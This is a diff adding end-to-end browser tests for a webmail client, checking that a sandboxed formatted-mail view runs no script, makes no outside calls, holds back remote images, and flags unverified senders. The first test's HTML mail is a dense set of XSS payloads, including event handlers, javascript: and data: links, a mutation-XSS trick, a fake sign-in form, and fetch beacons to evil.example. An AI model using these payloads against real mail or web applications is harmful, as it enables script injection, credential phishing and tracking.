@@ -1,0 +1,89 @@
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { newVisitor, openBrowser, openConversation, pageURL, sendMail, signIn, subjectOf } from "../stage.js";
+
+let browser;
+before(async () => { browser = await openBrowser(); });
+after(() => browser.close());
+
+const mark = "window.top.__ran = window.__ran = true; document.title = 'ran'; fetch('https://evil.example/ran')";
+const hostile = `<html><head>
+  <script>${mark}</script><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
+  <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+  <style>@import "https://evil.example/y.css"; body { background: url(https://evil.example/z.png) }</style></head>
+<body onload="${mark}" background="https://evil.example/b.png">
+  <p>Read me please.</p>
+  <img src="x" onerror="${mark}"><img src="https://images.example/pixel.gif" width="1" height="1">
+  <svg onload="${mark}"><script>${mark}</script><animate onbegin="${mark}" attributeName="x" dur="1s"/></svg>
+  <iframe srcdoc="<script>${mark}</script>"></iframe><iframe src="javascript:${mark}"></iframe>
+  <object data="https://evil.example/o"></object><embed src="https://evil.example/e">
+  <form action="https://evil.example/form"><input name="password" autofocus onfocus="${mark}"><button>Sign in again</button></form>
+  <a href="javascript:${mark}">first link</a> <a href="data:text/html,<script>${mark}</script>">second link</a>
+  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;"></mglyph></table></mtext></math>
+  <div style="position:fixed;inset:0;z-index:99999">cover</div>
+  <video autoplay src="https://evil.example/v.mp4" onerror="${mark}"></video><details open ontoggle="${mark}">more</details>
+  <template><img src=x onerror="${mark}"></template><noscript><img src="x" onerror="${mark}"></noscript>
+</body></html>`;
+
+test("a mail full of tricks runs nothing and calls nobody", async () => {
+  const page = await newVisitor(browser);
+  const called = [];
+  await page.context().route(/\.example\//, (route) => { called.push(route.request().url()); return route.abort(); });
+  page.on("dialog", (dialog) => { called.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
+  await signIn(page, "Owner");
+  const subject = await sendMail({ subject: subjectOf(`<img src=x onerror="${"alert(1)"}"> tricks`), from: '"<script>alert(1)</script>" <evil@example.org>', html: hostile });
+  await page.locator("a.row", { hasText: "tricks" }).first().click();
+  await page.getByRole("button", { name: "Show formatted" }).last().click();
+  const frame = page.frameLocator('iframe[title="Formatted message"]');
+  await frame.getByText("Read me please.").waitFor();
+  assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-popups allow-popups-to-escape-sandbox");
+  for (const name of ["first link", "second link"]) {
+    const link = frame.getByText(name);
+    if (await link.count()) await link.first().click({ force: true, noWaitAfter: true });
+  }
+  await page.getByRole("button", { name: "Show quoted text" }).last().click();
+  await page.locator("article .text").last().waitFor();
+  assert.equal(await page.evaluate(() => "__ran" in window), false);
+  assert.ok(page.url().startsWith(pageURL));
+  assert.deepEqual(called, []);
+  assert.deepEqual(page.faults, []);
+  assert.ok(subject);
+});
+
+test("pictures of other servers are fetched when asked for and not before; the mail's own are shown", async () => {
+  const page = await newVisitor(browser);
+  const fetched = [];
+  const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
+  await page.context().route("https://images.example/**", (route) => {
+    fetched.push(route.request().url());
+    return route.fulfill({ contentType: "image/gif", body: pixel });
+  });
+  await signIn(page, "Agent");
+  const subject = await sendMail({
+    subject: subjectOf("Pictures"),
+    html: '<p>Two pictures</p><img alt="own" src="cid:own@example.org"><img alt="remote" width="10" height="10" src="https://images.example/p.gif">',
+    attachments: [{ filename: "own.gif", content: pixel, cid: "own@example.org" }],
+  });
+  await openConversation(page, subject);
+  await page.getByRole("button", { name: "Show formatted" }).click();
+  const frame = page.frameLocator('iframe[title="Formatted message"]');
+  const own = frame.getByAltText("own");
+  await own.waitFor();
+  await page.waitForFunction(() => performance.getEntriesByType("resource").some((r) => r.name.includes("/attachments/")));
+  await assert.doesNotReject(own.evaluate((img) => img.decode()));
+  assert.deepEqual(fetched, []);
+  await page.getByRole("button", { name: "Show remote images" }).click();
+  await frame.getByAltText("remote").evaluate((img) => img.decode());
+  assert.ok(fetched.length > 0);
+});
+
+test("a mail that proves nothing about its sender says so", async () => {
+  const page = await newVisitor(browser);
+  await signIn(page, "Agent");
+  const subject = await sendMail({ subject: subjectOf("Trust me"), text: "It is really me.", verified: false });
+  await openConversation(page, subject);
+  await page.getByText("Unverified sender").waitFor();
+  await page.getByRole("button", { name: "More about this message" }).click();
+  await page.getByRole("menuitem", { name: "Why is this here?" }).click();
+  await page.getByRole("dialog", { name: "Why is this here?" }).locator("li").first().waitFor();
+});
